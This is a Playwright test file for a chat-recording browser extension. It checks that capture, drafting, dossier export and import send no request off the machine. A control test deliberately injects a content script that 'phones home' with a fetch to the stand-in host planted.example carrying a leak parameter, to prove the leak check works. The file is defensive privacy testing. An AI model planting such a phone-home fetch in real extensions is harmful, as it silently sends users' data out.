import type { BrowserContext, Page } from '@playwright/test';
import { BROWSER_SERVICES_DOMAIN, expect, test } from './fixtures/extension';
import type { ExtensionHarness } from './fixtures/harness';
import { ChatPage } from './pages/chat-page';
import { SidePanelPage } from './pages/side-panel';
import { checkNoRequestLeftMachine } from './support/network-check';
import type { ProxiedRequest, TestProxy } from './support/proxy';
import type { WithChrome } from './support/chrome-api';

/** Chromium's own services, pointed at reserved .invalid names by the fixture's switches. */
function withoutBrowserServices(requests: ProxiedRequest[]) {
  return requests.filter((r) => !r.host.split(':')[0]!.endsWith(`.${BROWSER_SERVICES_DOMAIN}`));
}

/** A whole recording journey: chats in a page and a cross-origin widget, then the workspace. */
async function recordingJourney(context: BrowserContext, page: Page, proxy: TestProxy, extension: ExtensionHarness) {
  const chat = await ChatPage.open(page, `${proxy.mainOrigin}/chat.html`);
  const widget = await ChatPage.openEmbedding(await context.newPage(), proxy, 'cross-origin iframe');
  await chat.say('agent', 'Your refund of $59.99 is on its way.');
  await widget.say('customer', 'When will it arrive?');
  await expect.poll(async () => (await extension.db()).messages.length).toBe(6);
  const panel = await SidePanelPage.open(context, extension.id);
  await panel.openCase('127.0.0.1');
  await expect(panel.transcript()).toContainText('Your refund of $59.99 is on its way.');
  return chat;
}

test('a recording journey sends no request off the machine', async ({ context, page, testProxy, extension }) => {
  await recordingJourney(context, page, testProxy, extension);

  const verdict = checkNoRequestLeftMachine(withoutBrowserServices(testProxy.requests()), testProxy.testHosts);
  expect(verdict.violations).toEqual([]);
  expect(verdict.ok).toBe(true);
  // The pages really came through the proxy (and it served both test origins).
  expect(verdict.servedHosts).toEqual(
    [testProxy.mainOrigin, testProxy.secondOrigin].map((origin) => new URL(origin).host).sort(),
  );
  // What was set aside is only Chromium's own service traffic, and the proxy refused it too.
  const setAside = testProxy.requests().filter((r) => withoutBrowserServices([r]).length === 0);
  expect(setAside.filter((r) => r.served || r.status !== 403)).toEqual([]);
});

test('control: the same check fails when a request does leave', async ({ context, page, testProxy, extension }) => {
  await recordingJourney(context, page, testProxy, extension);

  // A content script that phones home (a fetch from the page's isolated world)...
  const tabId = await extension.tabIdOf(page);
  await extension.serviceWorker.evaluate(async (tabId) => {
    const { chrome } = globalThis as unknown as WithChrome;
    await chrome.scripting.executeScript({
      target: { tabId },
      world: 'ISOLATED',
      args: [] as [],
      func: () =>
        fetch('http://planted.example/x?leak=1', { mode: 'no-cors' }).then(
          () => 'sent',
          () => 'failed',
        ),
    });
  }, tabId);
  await expect.poll(() => testProxy.requests().some((r) => r.host === 'planted.example')).toBe(true);

  const verdict = checkNoRequestLeftMachine(withoutBrowserServices(testProxy.requests()), testProxy.testHosts);
  expect(verdict.ok).toBe(false);
  expect(verdict.violations).toEqual([expect.stringContaining('http://planted.example/x?leak=1')]);

  // The extension's own pages cannot even try: their CSP (connect-src 'self') stops the request
  // before the network, so the proxy never sees it.
  const outcome = await extension.serviceWorker.evaluate(() =>
    fetch('http://blocked-by-csp.example/x').then(
      (response) => `answered ${response.status}`,
      (error: unknown) => `refused: ${String(error)}`,
    ),
  );
  expect(outcome).toMatch(/^refused: TypeError/);
  expect(testProxy.requests().some((r) => r.host === 'blocked-by-csp.example')).toBe(false);
});

test('capture, a draft, a dossier export and its import send no request off the machine', async ({
  context,
  page,
  testProxy,
  extension,
}) => {
  const chat = await ChatPage.open(page, `${testProxy.mainOrigin}/chat.html`);
  await chat.say('agent', 'Your refund of $59.99 for order A-10042 is on its way.', { name: 'Dana' });
  await expect.poll(async () => (await extension.db()).messages.length).toBe(3);
  const tabId = await extension.tabIdOf(page);
  expect(await extension.sendBehind(page, 'capture.run', { tabId })).toMatchObject({ res: { ok: true } });

  const panel = await SidePanelPage.open(context, extension.id);
  await panel.openCase('127.0.0.1');
  await panel.page.getByRole('tab', { name: 'Draft' }).click();
  await panel.page.getByRole('button', { name: 'Put into the chat box' }).click();
  // The test page has no chat box: the draft is copied instead. Either way, nothing goes out.
  await expect(panel.page.locator('.draft-status')).toBeVisible();
  await panel.page.getByRole('tab', { name: 'Export' }).click();
  const download = panel.page.waitForEvent('download');
  await panel.page.getByRole('button', { name: 'Export dossier' }).click();
  const dossier = await (await download).path();
  expect(dossier).toBeTruthy();

  // The dossier back in through the options page, kept as a copy beside the case: it writes.
  const options = await context.newPage();
  await options.goto(extension.url('options.html'));
  await options.getByTestId('import-file').setInputFiles(dossier);
  const plan = options.getByTestId('import-plan');
  await plan.locator('input[type="radio"][value="keep-both"]').check();
  await plan.getByRole('button', { name: 'Import', exact: true }).click();
  await expect(options.getByTestId('import-outcome')).toHaveText(
    'Import finished: 0 cases imported, 1 kept as copies, 0 skipped.',
  );
  expect((await extension.db()).cases).toHaveLength(2);

  const verdict = checkNoRequestLeftMachine(withoutBrowserServices(testProxy.requests()), testProxy.testHosts);
  expect(verdict.violations).toEqual([]);
  expect(verdict.ok).toBe(true);
});
